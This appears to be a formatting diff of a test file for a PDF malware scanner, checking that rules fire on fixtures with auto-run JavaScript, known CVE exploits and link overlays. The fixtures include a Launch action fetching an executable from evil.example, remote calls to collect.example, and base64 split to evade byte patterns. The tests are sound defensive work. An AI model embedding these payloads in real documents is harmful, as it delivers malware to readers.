-    const r = analyzeFast(documentWith({ catalog: "/OpenAction << /S /Launch /F (http://evil.example/a.exe) >>" }).build(), { fileName: "launch-url.pdf" });
+    const r = analyzeFast(
+      documentWith({ catalog: "/OpenAction << /S /Launch /F (http://evil.example/a.exe) >>" }).build(),
+      { fileName: "launch-url.pdf" },
+    );
     expect(r.findings.map((f) => f.ruleId)).toContain("launch-action");
     for (const f of r.findings) expect(f.description, f.ruleId).not.toMatch(LIVE_LINK);
   });
 
   it("analyses a file without any %PDF- header and reports the missing header (readers open it)", () => {
-    const r = analyzeFast(documentWith({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1);) >>" }).build({ header: null }), { fileName: "headerless.pdf" });
+    const r = analyzeFast(
+      documentWith({ catalog: "/OpenAction << /S /JavaScript /JS (app.alert(1);) >>" }).build({ header: null }),
+      { fileName: "headerless.pdf" },
+    );
     expect(r.structure.header_offset).toBe(-1);
-    expect(r.findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(["header-not-at-start", "javascript-auto-run"]));
+    expect(r.findings.map((f) => f.ruleId)).toEqual(
+      expect.arrayContaining(["header-not-at-start", "javascript-auto-run"]),
+    );
   });
 
   it("fires the exploit rules of these fixtures with their CVE", () => {
-    const cves = (id: string) => analyzeFast(FIXTURES[id].build(), { fileName: "x.pdf" }).findings.find((f) => f.ruleId === id)?.cve;
+    const cves = (id: string) =>
+      analyzeFast(FIXTURES[id].build(), { fileName: "x.pdf" }).findings.find((f) => f.ruleId === id)?.cve;
     expect(cves("javascript-exploit-api")).toEqual(expect.arrayContaining(["CVE-2007-5659"]));
     expect(cves("cooltype-sing-overflow")).toEqual(["CVE-2010-2883"]);
     expect(cves("xfa-tiff-exploit")).toEqual(["CVE-2010-0188"]);
@@ -506,7 +720,9 @@ describe("every fast rule fires on its fixture", () => {
 
   it("finds an XFA TIFF whose base64 is split one character a line (byte patterns miss it)", () => {
     const split = EXPLOIT_TIFF_BASE64.split("").join(" \n");
-    const pdf = xfaDocument(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfa:contentType="image/tif" href=""> ${split}</ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`);
+    const pdf = xfaDocument(
+      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><ImageField1 xfa:contentType="image/tif" href=""> ${split}</ImageField1></form1></xfa:data></xfa:datasets></xdp:xdp>`,
+    );
     expect(analyzeFast(pdf, { fileName: "x.pdf" }).findings.map((f) => f.ruleId)).toContain("xfa-tiff-exploit");
   });
 });
@@ -528,10 +744,17 @@ function plainReport() {
 function formWithFormatScripts() {
   return documentWith({
     setup(b) {
-      const aa = (fmt: string, keystroke: string) => `/AA << /F << /S /JavaScript /JS (${fmt}) >> /K << /S /JavaScript /JS (${keystroke}) >> >>`;
-      const amount = b.add(`<< /FT /Tx /T (amount) /V (1200.50) ${aa('AFNumber_Format(2, 0, 0, 0, "", true);', 'AFNumber_Keystroke(2, 0, 0, 0, "", true);')} >>`);
-      const date = b.add(`<< /FT /Tx /T (date) ${aa('AFDate_FormatEx("dd/mm/yyyy");', 'AFDate_KeystrokeEx("dd/mm/yyyy");')} >>`);
-      const total = b.add(`<< /FT /Tx /T (total) /AA << /C << /S /JavaScript /JS (AFSimple_Calculate("SUM", new Array ("amount"));) >> >> >>`);
+      const aa = (fmt: string, keystroke: string) =>
+        `/AA << /F << /S /JavaScript /JS (${fmt}) >> /K << /S /JavaScript /JS (${keystroke}) >> >>`;
+      const amount = b.add(
+        `<< /FT /Tx /T (amount) /V (1200.50) ${aa('AFNumber_Format(2, 0, 0, 0, "", true);', 'AFNumber_Keystroke(2, 0, 0, 0, "", true);')} >>`,
+      );
+      const date = b.add(
+        `<< /FT /Tx /T (date) ${aa('AFDate_FormatEx("dd/mm/yyyy");', 'AFDate_KeystrokeEx("dd/mm/yyyy");')} >>`,
+      );
+      const total = b.add(
+        `<< /FT /Tx /T (total) /AA << /C << /S /JavaScript /JS (AFSimple_Calculate("SUM", new Array ("amount"));) >> >> >>`,
+      );
       return { catalog: `/AcroForm << /Fields [${amount} 0 R ${date} 0 R ${total} 0 R] /NeedAppearances true >>` };
     },
   }).build();
@@ -557,7 +780,9 @@ describe("benign fixtures stay benign", () => {
     ["a company home page", "https://www.example.com/"],
     ["a page with a query", "https://en.wikipedia.org/wiki/PDF?action=history"],
   ])("a small link to %s is not flagged by the phishing rules", (_name, url) => {
-    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), { fileName: "link.pdf" });
+    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), {
+      fileName: "link.pdf",
+    });
     expect(r.findings.filter((f) => PHISHING_RULES.includes(f.ruleId)).map((f) => f.ruleId)).toEqual([]);
     expect(r.summary.verdict).toBe("benign");
     expect(r.iocs.urls).toContain(url);
@@ -565,22 +790,36 @@ describe("benign fixtures stay benign", () => {
 
   it("a small link to a bank's own sign-in page is not flagged as a phishing URL", () => {
     const url = "https://secure.bankofamerica.com/login/sign-in/signOnV2Screen.go";
-    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), { fileName: "statement.pdf" });
+    const r = analyzeFast(documentWith({ annots: [link(`<< /S /URI /URI (${url}) >>`)] }).build(), {
+      fileName: "statement.pdf",
+    });
     expect(r.findings.map((f) => f.ruleId)).not.toContain("phishing-url-pattern");
     expect(r.summary.verdict).toBe("benign");
   });
 
   it.each([
-    ["opens a remote PDF", "<< /S /GoToR /F << /Type /FileSpec /F (https://collect.example/t.pdf) /V true /FS /URL >> /D [0 /Fit] >>"],
-    ["imports form data from a web address", "<< /S /ImportData /F << /Type /FileSpec /F (https://collect.example/t.fdf) /V true /FS /URL >> >>"],
+    [
+      "opens a remote PDF",
+      "<< /S /GoToR /F << /Type /FileSpec /F (https://collect.example/t.pdf) /V true /FS /URL >> /D [0 /Fit] >>",
+    ],
+    [
+      "imports form data from a web address",
+      "<< /S /ImportData /F << /Type /FileSpec /F (https://collect.example/t.fdf) /V true /FS /URL >> >>",
+    ],
     ["launches a file on a share", "<< /S /Launch /F (\\\\\\\\files.example\\\\share\\\\a.exe) >>"],
-  ])("a page-sized link that %s is an overlay: any click on the page reaches the sender (PDF101's url-invocation tests)", (_name, action) => {
-    const r = analyzeFast(documentWith({ annots: [link(action, "0 0 595 842")] }).build(), { fileName: "test.pdf" });
-    expect(r.findings.map((f) => f.ruleId)).toContain("phishing-link-overlay");
-  });
+  ])(
+    "a page-sized link that %s is an overlay: any click on the page reaches the sender (PDF101's url-invocation tests)",
+    (_name, action) => {
+      const r = analyzeFast(documentWith({ annots: [link(action, "0 0 595 842")] }).build(), { fileName: "test.pdf" });
+      expect(r.findings.map((f) => f.ruleId)).toContain("phishing-link-overlay");
+    },
+  );
 
   it("a page-sized link to another PDF of the same folder is no overlay", () => {
-    const r = analyzeFast(documentWith({ annots: [link("<< /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >>", "0 0 612 792")] }).build(), { fileName: "chapter1.pdf" });
+    const r = analyzeFast(
+      documentWith({ annots: [link("<< /S /GoToR /F (chapter2.pdf) /D [0 /Fit] >>", "0 0 612 792")] }).build(),
+      { fileName: "chapter1.pdf" },
+    );
     expect(r.findings.map((f) => f.ruleId)).not.toContain("phishing-link-overlay");
   });
 
